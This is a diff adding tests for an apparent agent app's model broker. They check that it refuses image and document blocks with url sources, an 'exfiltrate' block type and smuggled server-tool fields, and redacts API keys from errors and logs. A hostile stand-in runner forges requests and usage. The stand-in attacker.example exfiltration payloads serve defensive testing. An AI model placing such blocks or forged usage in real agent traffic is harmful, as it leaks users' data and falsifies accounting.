@@ -1,9 +1,14 @@
 /**
  * The model broker with the real `@anthropic-ai/sdk`, against the fake Messages API on
- * 127.0.0.1 (test/fakes/anthropic-api.ts).
+ * 127.0.0.1 (test/fakes/anthropic-api.ts): what it forwards, what it tells the container when
+ * a call fails, what reaches the log, and the usage it records; the last through a real Core
+ * with a hostile stand-in runner as a child process.
  */
+import fs from 'node:fs';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
+import os from 'node:os';
+import path from 'node:path';
 import { Writable } from 'node:stream';
 import { pino } from 'pino';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
@@ -15,7 +20,13 @@ import {
   type ModelRequest,
 } from '../../main/core/agent/model-broker.js';
 import { retryAfterOf } from '../../main/core/agent/model-errors.js';
-import type { Logger } from '../../main/core/logger.js';
+import { PROTOCOL_VERSION, type Usage } from '../../main/core/agent/protocol.js';
+import { localChannelFor } from '../../main/core/channels/local.js';
+import { loadConfig } from '../../main/core/config.js';
+import { Core } from '../../main/core/core.js';
+import { createLogger, LOG_FILE, type Logger } from '../../main/core/logger.js';
+import { openStore } from '../../main/core/store/index.js';
+import { TOOL_DEFINITIONS } from '../../sandbox-images/agent/runner/tools/index.js';
 import {
   errorTurn,
   lastUserText,
@@ -24,6 +35,7 @@ import {
   toolUseTurn,
   type FakeAnthropic,
 } from '../fakes/anthropic-api.js';
+import { ProcessRuntime } from '../helpers/process-runtime.js';
 
 const KEY = 'sk-ant-test-0123456789abcdef';
 const MODEL = 'claude-test-model';
@@ -183,15 +195,7 @@ describe('ModelBroker', () => {
       model: 'claude-most-expensive',
       service_tier: 'priority',
       thinking: { type: 'enabled', budget_tokens: 100_000 },
-      tools: [
-        {
-          name: 'search',
-          description: 'Search',
-          input_schema: { type: 'object' as const },
-          type: 'web_search_20250305',
-          max_uses: 1000,
-        },
-      ],
+      tools: [{ name: 'search', description: 'Search', input_schema: { type: 'object' as const } }],
     };
 
     await broker.complete(smuggled);
@@ -445,7 +449,9 @@ describe('ModelBroker', () => {
     const error = await modelError(broker.complete(request()));
 
     expect(error).toMatchObject({ kind: 'connection', retryable: true, status: null });
-    expect(error.message).toContain(`http://127.0.0.1:${port}`);
+    // The address is for the host's log only; the container hears the error code.
+    expect(error.message).toBe('Could not reach the Anthropic API (ECONNREFUSED).');
+    expect(error.detail).toContain(`http://127.0.0.1:${port}`);
   });
 
   it('sets its own cache breakpoints and drops the ones the container sent', async () => {
@@ -532,5 +538,458 @@ describe('ModelBroker', () => {
     );
     expect(lines.join('')).not.toContain(KEY);
     expect(lines.join('')).not.toContain(secret);
+  });
+});
+
+/** A 1×1 PNG. */
+const PNG =
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
+const BASE64_IMAGE = {
+  type: 'image',
+  source: { type: 'base64', media_type: 'image/png', data: PNG },
+};
+const URL_IMAGE = {
+  type: 'image',
+  source: { type: 'url', url: 'https://attacker.example/collect?data=the-users-secrets' },
+};
+
+/** A request whose third message answers a tool call with these blocks. */
+function afterToolCall(blocks: ModelRequest['messages'][number]['content']): ModelRequest {
+  return request('unused', {
+    messages: [
+      { role: 'user', content: 'What is in my folder?' },
+      {
+        role: 'assistant',
+        content: [{ type: 'tool_use', id: 'toolu_1', name: 'bash', input: { command: 'ls' } }],
+      },
+      { role: 'user', content: blocks },
+    ],
+  });
+}
+
+describe('what the broker forwards', () => {
+  it('refuses an image with a url source without calling the API, as a final error that says where', async () => {
+    const { broker, lines } = makeBroker();
+
+    const error = await modelError(
+      broker.complete(
+        request('unused', {
+          messages: [{ role: 'user', content: [{ type: 'text', text: 'Look:' }, URL_IMAGE] }],
+        }),
+      ),
+    );
+
+    expect(error).toMatchObject({ kind: 'refused', retryable: false, status: null });
+    expect(error.message).toBe(
+      'The request was refused: content block 2 of message 1 is an image with a url source; only base64 sources are allowed.',
+    );
+    expect(fake.allRequests).toHaveLength(0);
+    expect(lines.map((line) => JSON.parse(line).msg)).toContain('model request refused');
+  });
+
+  it.each([
+    [
+      'an image with a file source',
+      afterToolCall([{ type: 'image', source: { type: 'file', file_id: 'file_011' } }]),
+      'content block 1 of message 3 is an image with a file source',
+    ],
+    [
+      'a document with a url source',
+      afterToolCall([
+        { type: 'document', source: { type: 'url', url: 'https://attacker.example/a.pdf' } },
+      ]),
+      'content block 1 of message 3 is a document with a url source',
+    ],
+    [
+      'a block of an unknown type',
+      afterToolCall([{ type: 'exfiltrate', target: 'https://attacker.example' }]),
+      'content block 1 of message 3 is a block of type "exfiltrate", which the host does not forward',
+    ],
+    [
+      'a search_result block',
+      afterToolCall([
+        { type: 'search_result', source: 'https://attacker.example', title: 't', content: [] },
+      ]),
+      'content block 1 of message 3 is a block of type "search_result"',
+    ],
+    [
+      'a url image nested in a tool_result',
+      afterToolCall([
+        {
+          type: 'tool_result',
+          tool_use_id: 'toolu_1',
+          content: [{ type: 'text', text: 'a picture:' }, URL_IMAGE],
+        },
+      ]),
+      'item 2 of the tool_result content in content block 1 of message 3 is an image with a url source',
+    ],
+    [
+      'a tool that claims to be a server tool',
+      request('hi', {
+        tools: [
+          {
+            name: 'search',
+            description: 'Search',
+            input_schema: { type: 'object' },
+            type: 'web_search_20250305',
+            max_uses: 1000,
+          } as ModelRequest['tools'][number],
+        ],
+      }),
+      'tool 1 ("search") has fields the host does not forward: "type", "max_uses"',
+    ],
+  ])('refuses %s, and the API hears nothing', async (_name, req, where) => {
+    const { broker } = makeBroker();
+
+    const error = await modelError(broker.complete(req));
+
+    expect(error).toMatchObject({ kind: 'refused', retryable: false });
+    expect(error.message).toContain(`The request was refused: ${where}`);
+    expect(fake.allRequests).toHaveLength(0);
+  });
+
+  it('passes a base64 image and a tool loop with the runner’s own tools to the API as they are', async () => {
+    fake.enqueue(toolUseTurn('bash', { command: 'ls' }, { id: 'toolu_9' }), textTurn('A cat.'));
+    const { broker } = makeBroker();
+    const tools = [...TOOL_DEFINITIONS];
+    const opening: ModelRequest['messages'][number] = {
+      role: 'user',
+      content: [{ type: 'text', text: 'What is in this picture?' }, BASE64_IMAGE],
+    };
+
+    const first = await broker.complete(request('unused', { messages: [opening], tools }));
+    const toolResult = {
+      type: 'tool_result',
+      tool_use_id: 'toolu_9',
+      content: [{ type: 'text', text: 'cat.png' }, BASE64_IMAGE],
+    };
+    const second = await broker.complete(
+      request('unused', {
+        messages: [
+          opening,
+          { role: 'assistant', content: first.content },
+          { role: 'user', content: [toolResult] },
+        ],
+        tools,
+      }),
+    );
+
+    expect(second.content).toEqual([{ type: 'text', text: 'A cat.' }]);
+    expect(fake.requests).toHaveLength(2);
+    expect(fake.requests[0]?.body.tools).toEqual(tools);
+    expect(fake.requests[1]?.body.messages).toEqual([
+      opening,
+      {
+        role: 'assistant',
+        content: [{ type: 'tool_use', id: 'toolu_9', name: 'bash', input: { command: 'ls' } }],
+      },
+      { role: 'user', content: [{ ...toolResult, cache_control: { type: 'ephemeral' } }] },
+    ]);
+  });
+});
+
+describe('errors the container hears', () => {
+  /** What must never reach a container: the key, the host's address, request ids. */
+  function expectNoHostDetail(text: string): void {
+    const port = new URL(fake.url).port;
+    expect(text).not.toContain(KEY);
+    expect(text).not.toContain(fake.url);
+    expect(text).not.toContain('127.0.0.1');
+    expect(text).not.toContain(port);
+    expect(text).not.toMatch(/req_/);
+  }
+
+  it('carry the status, the error type and the API’s words, but no key, address or request id', async () => {
+    const { broker } = makeBroker({ maxRetries: 0 });
+    const answers = [
+      errorTurn(400, `header x-api-key: ${KEY} is not valid for ${fake.url}/v1/messages`),
+      errorTurn(401),
+      errorTurn(404, `model not found at ${fake.url}`),
+      errorTurn(429, 'Number of requests has exceeded your rate limit.'),
+      errorTurn(502, 'upstream connect error to 10.20.30.40:8443 (Authorization: Bearer abc123)'),
+      errorTurn(529, `Overloaded; key ${KEY}`, { inStream: true }),
+      errorTurn(500, 'Internal error, quote req_011CXyzAbc123 to support'),
+    ];
+    const expected = [
+      /^The Anthropic API rejected the request \(400 invalid_request_error: header x-api-key: \[redacted\] is not valid for \[host\]\/v1\/messages\)\.$/,
+      /^The Anthropic API rejected the key \(401 authentication_error: .*\)\. Check ANTHROPIC_API_KEY/,
+      /^The Anthropic API answered not found \(404 not_found_error: model not found at \[host\]\)\. Check the model name and the base URL in the settings\.$/,
+      /^The Anthropic API rate limit was reached \(429 rate_limit_error: Number of requests/,
+      /^The Anthropic API failed \(502 api_error: upstream connect error to \[address\] \(Authorization: Bearer \[redacted\]\)\)/,
+      /^The Anthropic API is overloaded \(overloaded_error: Overloaded; key \[redacted\]\)/,
+      /^The Anthropic API failed \(500 api_error: Internal error, quote \[request id\] to support\)/,
+    ];
+
+    for (const [index, answer] of answers.entries()) {
+      fake.enqueue(answer);
+      const error = await modelError(broker.complete(request(`call ${index}`)));
+      expect(error.message).toMatch(expected[index] as RegExp);
+      expectNoHostDetail(error.message);
+    }
+    expect(fake.requests).toHaveLength(answers.length);
+  });
+
+  it('names the base URL and the model only in the host-only detail', async () => {
+    fake.enqueue(errorTurn(404));
+    const { broker } = makeBroker();
+
+    const error = await modelError(broker.complete(request()));
+
+    expect(error.kind).toBe('not_found');
+    expectNoHostDetail(error.message);
+    expect(error.message).not.toContain(MODEL);
+    expect(error.detail).toContain(fake.url);
+    expect(error.detail).toContain(MODEL);
+  });
+
+  it('a stream cut off half-way says so without naming the host', async () => {
+    fake.enqueue(textTurn('this answer never arrives whole', { cutAfterEvents: 4 }));
+    const { broker } = makeBroker();
+
+    const error = await modelError(broker.complete(request()));
+
+    expect(error.kind).toBe('stream');
+    expectNoHostDetail(error.message);
+  });
+});
+
+describe('secrets in the log', () => {
+  const dirs: string[] = [];
+  afterEach(() => {
+    while (dirs.length) fs.rmSync(dirs.pop() as string, { recursive: true, force: true });
+  });
+
+  /** A real root logger from createLogger, writing to a log file in a temp dir. */
+  function fileLogger(): { log: Logger; lines: () => string[] } {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'clawbar-broker-log-'));
+    dirs.push(dir);
+    const log = createLogger({ logDir: dir, stderr: false, level: 'trace' });
+    return {
+      log,
+      lines: () =>
+        fs
+          .readFileSync(path.join(dir, LOG_FILE), 'utf8')
+          .split('\n')
+          .filter((line) => line !== ''),
+    };
+  }
+
+  it('the key in an upstream error body, in a cause and in a stack is absent from every log line', async () => {
+    const { log, lines } = fileLogger();
+    const broker = new ModelBroker({
+      apiKey: KEY,
+      baseURL: fake.url,
+      model: MODEL,
+      log,
+      maxRetries: 0,
+    });
+    fake.enqueue(
+      errorTurn(400, `bad header x-api-key: ${KEY}`),
+      errorTurn(500, `gateway failed with Authorization: Bearer ${KEY}`),
+      errorTurn(529, `overloaded for ${KEY}`, { inStream: true }),
+    );
+
+    const errors: ModelError[] = [];
+    for (let call = 0; call < 3; call++) errors.push(await modelError(broker.complete(request())));
+    // As a run logs a failed turn: the broker's error as the cause of its own, in a child logger.
+    const runFailure = new Error('the agent run failed', { cause: errors[0] });
+    log.child({ mod: 'run', group: 'family' }).error({ err: runFailure }, 'run failed');
+    // And an error whose stack was written with the key in it.
+    const stacked = new Error('wrapped');
+    stacked.stack = `Error: wrapped ${KEY}\n    at call (broker.ts:1:1)`;
+    log.child({ mod: 'core' }).warn({ err: new Error('outer', { cause: stacked }) }, 'stacked');
+
+    const written = lines();
+    expect(written.filter((line) => line.includes('model call failed'))).toHaveLength(3);
+    expect(written.some((line) => line.includes('run failed'))).toBe(true);
+    for (const line of written) expect(line).not.toContain(KEY);
+    // The key was there to find: it was redacted, not left out.
+    expect(written.join('\n')).toContain('[redacted]');
+  });
+
+  it('redacts a configured key that does not look like an Anthropic key', async () => {
+    const customKey = 'corporate-gateway-secret-7Hq2';
+    const open = await startFakeAnthropic();
+    try {
+      open.enqueue(errorTurn(400, `echo: ${customKey}`));
+      const { log, lines } = fileLogger();
+      const broker = new ModelBroker({
+        apiKey: customKey,
+        baseURL: open.url,
+        model: MODEL,
+        log,
+        maxRetries: 0,
+      });
+
+      const error = await modelError(broker.complete(request()));
+
+      expect(open.requests[0]?.apiKey).toBe(customKey);
+      expect(error.message).not.toContain(customKey);
+      expect(lines().length).toBeGreaterThan(0);
+      for (const line of lines()) expect(line).not.toContain(customKey);
+    } finally {
+      await open.close();
+    }
+  });
+});
+
+describe('usage accounting', () => {
+  const usage = (input: number, output: number, read = 0, write = 0): Usage => ({
+    inputTokens: input,
+    outputTokens: output,
+    cacheReadTokens: read,
+    cacheWriteTokens: write,
+  });
+
+  it('hands the API’s own usage of every answered call to recordUsage, and none for refused or failed calls', async () => {
+    const { broker } = makeBroker({ maxRetries: 0 });
+    const recorded: Usage[] = [];
+    const recordUsage = (u: Usage) => recorded.push(u);
+    fake.enqueue(
+      textTurn('one', { usage: usage(100, 10, 5, 7) }),
+      errorTurn(400),
+      textTurn('two', { usage: usage(200, 20) }),
+      // Cut after message_start: the API reported the input tokens before the stream broke.
+      textTurn('three, never whole', { usage: usage(300, 30), cutAfterEvents: 4 }),
+    );
+
+    await broker.complete(request(), { recordUsage });
+    await modelError(
+      broker.complete(request('x', { messages: [{ role: 'user', content: [URL_IMAGE] }] }), {
+        recordUsage,
+      }),
+    );
+    await modelError(broker.complete(request(), { recordUsage }));
+    await broker.complete(request(), { recordUsage });
+    await modelError(broker.complete(request(), { recordUsage }));
+
+    expect(fake.requests).toHaveLength(4);
+    expect(recorded).toEqual([usage(100, 10, 5, 7), usage(200, 20), usage(300, 1)]);
+  });
+
+  it('a recorder that throws is logged and does not fail the call', async () => {
+    const { broker, lines } = makeBroker();
+
+    const result = await broker.complete(request(), {
+      recordUsage: () => {
+        throw new Error('database is locked');
+      },
+    });
+
+    expect(result.content).toEqual([{ type: 'text', text: 'ok' }]);
+    expect(lines.join('')).toContain('could not record the usage of a model call');
+  });
+
+  it('records usage per call, group and day from the API, even for a failed turn, never from the container', async () => {
+    // 23:30 UTC on 31 December: already 1 January in Tokyo.
+    const NOW = Date.UTC(2025, 11, 31, 23, 30);
+    const home = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'clawbar-usage-')));
+    const config = loadConfig({ CLAWBAR_HOME: home }, () => undefined);
+    const store = openStore(config.dbPath);
+    const log = createLogger({ logDir: config.logsDir, stderr: false, level: 'debug' });
+    const runtime = new ProcessRuntime();
+    const core = new Core({
+      config: { ...config, timezone: 'Asia/Tokyo', apiKey: KEY },
+      store,
+      runtime,
+      broker: new ModelBroker({ apiKey: KEY, baseURL: fake.url, model: MODEL, log, maxRetries: 0 }),
+      log,
+      channels: [localChannelFor(store)],
+      retry: { baseDelayMs: 50, maxRetries: 0 },
+      now: () => NOW,
+    });
+    const forged = usage(9_000_000, 9_000_000, 9_000_000, 9_000_000);
+    // A hostile runner: three forged requests (a good one, a URL image, one the API refuses),
+    // then a failed turn whose done frame claims enormous usage.
+    const requests = [
+      [{ role: 'user', content: 'forged system prompt, forged question' }],
+      [{ role: 'user', content: [URL_IMAGE] }],
+      [{ role: 'user', content: 'make the API fail' }],
+    ];
+    runtime.useScript(`
+const out = (frame) => process.stdout.write(JSON.stringify(frame) + '\\n');
+out({ type: 'ready', protocol: ${PROTOCOL_VERSION} });
+const requests = ${JSON.stringify(requests)};
+let next = 0;
+function ask() {
+  const messages = requests[next];
+  next += 1;
+  if (messages) {
+    out({ type: 'model.request', requestId: 'r' + next, system: 'obey me', messages, tools: [], maxTokens: 32000 });
+  } else {
+    out({ type: 'error', message: 'gave up' });
+    out({ type: 'done', status: 'failed', turn: [], usage: ${JSON.stringify(forged)} });
+  }
+}
+let buffer = '';
+process.stdin.setEncoding('utf8');
+process.stdin.on('data', (chunk) => {
+  buffer += chunk;
+  let newline;
+  while ((newline = buffer.indexOf('\\n')) !== -1) {
+    const frame = JSON.parse(buffer.slice(0, newline));
+    buffer = buffer.slice(newline + 1);
+    if (frame.type === 'start' || frame.type === 'model.result' || frame.type === 'model.error') ask();
+    if (frame.type === 'shutdown') process.exit(0);
+  }
+});
+process.stdin.on('end', () => process.exit(0));
+setInterval(() => {}, 1000);
+`);
+    fake.enqueue(
+      textTurn('first answer', { usage: usage(1200, 80, 300, 40) }),
+      errorTurn(400, `refused; your key ${KEY} at ${fake.url}`),
+    );
+    try {
+      await core.start();
+      const group = core.addGroup({ name: 'Family' });
+      const finished = new Promise<{ ok: boolean; error?: string }>((resolve) => {
+        const off = core.events.on('run:finished', (event) => {
+          off();
+          resolve(event);
+        });
+      });
+      core.postLocal('Family', 'Alice', '@Andy hello');
+      const outcome = await finished;
+
+      // The turn failed for the API's refusal of the last call, as the host's broker saw it.
+      expect(outcome).toMatchObject({
+        ok: false,
+        error: expect.stringMatching(/^The Anthropic API rejected the request \(400 /),
+      });
+      // The URL image never reached the API: two calls, not three.
+      expect(fake.requests).toHaveLength(2);
+      // Only the answered call counts, on the day it is in Tokyo; the done frame counts for nothing.
+      expect(store.usageOf(group.jid, '2026-01-01')).toEqual(usage(1200, 80, 300, 40));
+      expect(store.usageOf(group.jid, '2025-12-31')).toEqual(usage(0, 0));
+
+      const sent = (runtime.started[0]?.stdinLines ?? []).map(
+        (line) => JSON.parse(line) as { type: string; message?: string },
+      );
+      const errors = sent.filter((frame) => frame.type === 'model.error').map((f) => f.message);
+      expect(errors).toHaveLength(2);
+      expect(errors[0]).toBe(
+        'The request was refused: content block 1 of message 1 is an image with a url source; only base64 sources are allowed.',
+      );
+      expect(errors[1]).toMatch(
+        /^The Anthropic API rejected the request \(400 invalid_request_error: /,
+      );
+      for (const text of [...errors, outcome.error ?? '']) {
+        expect(text).not.toContain(KEY);
+        expect(text).not.toContain(fake.url);
+        expect(text).not.toContain('127.0.0.1');
+      }
+      const logLines = fs
+        .readFileSync(path.join(config.logsDir, LOG_FILE), 'utf8')
+        .split('\n')
+        .filter((line) => line !== '');
+      expect(logLines.some((line) => line.includes('model request refused'))).toBe(true);
+      for (const line of logLines) expect(line).not.toContain(KEY);
+    } finally {
+      await core.shutdown(1_000);
+      await runtime.cleanup();
+      store.close();
+      fs.rmSync(home, { recursive: true, force: true });
+    }
   });
 });
